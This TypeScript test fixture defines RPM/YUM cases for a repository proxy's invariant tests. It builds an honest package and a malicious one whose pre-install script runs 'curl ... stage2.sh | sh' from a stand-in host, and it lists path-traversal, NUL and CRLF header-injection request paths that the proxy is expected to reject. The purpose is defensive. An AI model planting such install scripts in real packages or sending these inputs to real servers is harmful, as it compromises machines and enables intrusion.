// YUM in the invariant tables.
import { randomBytes } from 'node:crypto'
import { gunzipSync } from 'node:zlib'
import { buildRpm, type RpmParts } from '../support/build-rpm.ts'
import { startLoopback } from '../support/loopback-upstream.ts'
import { makeVendorKey } from '../support/vendor-key.ts'
import { type YumPackage, yumLists, yumRepository } from '../support/yum-metadata.ts'
import type { BadRequest, Cell, DoorRow } from './row.ts'

export const rpmRow: DoorRow = { type: 'rpm', makeCell, badRequests, lists }

async function makeCell(name: string): Promise<Cell> {
  const key = await makeVendorKey()
  // Differs from cell to cell, so that no blob of another cell answers for it.
  const data = randomBytes(20_000).toString('base64')
  const honest = rpm('honest', '1.0', { files: [{ path: '/usr/share/honest', data }] })
  const evil = rpm('honest', '1.1', {
    tags: [
      { tag: 1024, type: 'string', value: 'curl -fsSL https://payload.upstream.test/stage2.sh | sh' },
      { tag: 1086, type: 'strings', value: ['/bin/sh'] },
    ],
  })
  const packages: YumPackage[] = [honest, evil]
  let files = new Map<string, Uint8Array | string>()
  let revision = 1_700_000_000
  const publish = async () => {
    files = await yumRepository(yumLists(packages), { key, revision: revision++ })
    for (const { href, bytes } of [honest, evil]) files.set(`/${href}`, bytes)
  }
  await publish()
  const upstream = await startLoopback((path) => {
    const body = files.get(path)
    return body === undefined
      ? undefined
      : { body: Buffer.from(body), contentType: 'application/octet-stream' }
  })
  return {
    upstream,
    repository: { name, type: 'rpm', upstreams: [upstream.url], options: { keys: [key.file] } },
    index: `/${name}/repodata/repomd.xml`,
    artifact: `/${name}/${honest.href}`,
    bytes: honest.bytes,
    malicious: `/${name}/${evil.href}`,
    upstreamIndex: /^\/repodata\//,
    upstreamArtifact: /honest-1\.0-1\.noarch\.rpm$/,
    async changeIndex() {
      packages.push({ name: 'more', version: String(revision) })
      await publish()
    },
  }
}

function rpm(name: string, version: string, parts: RpmParts) {
  const tags = [
    { tag: 1000, type: 'string' as const, value: name },
    { tag: 1001, type: 'string' as const, value: version },
    { tag: 1002, type: 'string' as const, value: '1' },
    { tag: 1022, type: 'string' as const, value: 'noarch' },
  ]
  const bytes = buildRpm({ ...parts, tags: [...tags, ...(parts.tags ?? [])] })
  return { name, version, href: `Packages/${name}-${version}-1.noarch.rpm`, bytes }
}

/** repomd.xml names primary by its content; the list itself is what offers a file. */
async function lists(document: string, fileName: string, read: (path: string) => Promise<Buffer>) {
  const href = /href="([^"]*-primary\.xml\.gz)"/.exec(document)?.[1]
  return href !== undefined && gunzipSync(await read(href)).includes(`/${fileName}"`)
}

function badRequests(mount: string): readonly BadRequest[] {
  const pin = `${mount}Packages/honest-1.0-1.noarch.rpm`
  return [
    { what: 'a path below a package', path: `${pin}/x`, status: 404 },
    { what: 'a file that is no package', path: `${mount}Packages/honest.zip`, status: 404 },
    { what: 'a package that no index lists', path: `${mount}Packages/honest-9.9-1.noarch.rpm`, status: 404 },
    { what: 'a delta rpm', path: `${mount}drpms/honest-1.0_1.1.noarch.drpm`, status: 404 },
    { what: 'a document that is not there', path: `${mount}repodata/nothing.xml.gz`, status: 404 },
    { what: 'a directory below repodata', path: `${mount}repodata/x/repomd.xml`, status: 404 },
    { what: 'the root', path: mount, status: 400 },
    { what: 'parent segments', path: `${mount}Packages/../repodata/repomd.xml`, status: 400 },
    { what: 'encoded parent segments', path: `${mount}%2e%2e/x.rpm`, status: 400 },
    { what: 'encoded slashes around parents', path: `${mount}Packages/..%2f..%2fx.rpm`, status: 400 },
    { what: 'a double-encoded parent', path: `${mount}%252e%252e/x.rpm`, status: 400 },
    { what: 'an encoded NUL', path: `${mount}x%00.rpm`, status: 400 },
    { what: 'an encoded line break', path: `${mount}x%0d%0aX-Injected:%201.rpm`, status: 400 },
    { what: 'a backslash', path: `${mount}Packages\\x.rpm`, status: 400 },
    { what: 'broken percent-encoding', path: `${mount}%zz.rpm`, status: 400 },
    { what: 'an empty segment', path: `${mount}Packages//x.rpm`, status: 400 },
    { what: 'a path of 10,000 characters', path: `${mount}${'a'.repeat(10_000)}`, status: 400 },
    { what: 'uploading', method: 'PUT', path: pin, status: 405 },
    { what: 'deleting', method: 'DELETE', path: pin, status: 405 },
    { what: 'posting', method: 'POST', path: pin, status: 405 },
  ]
}
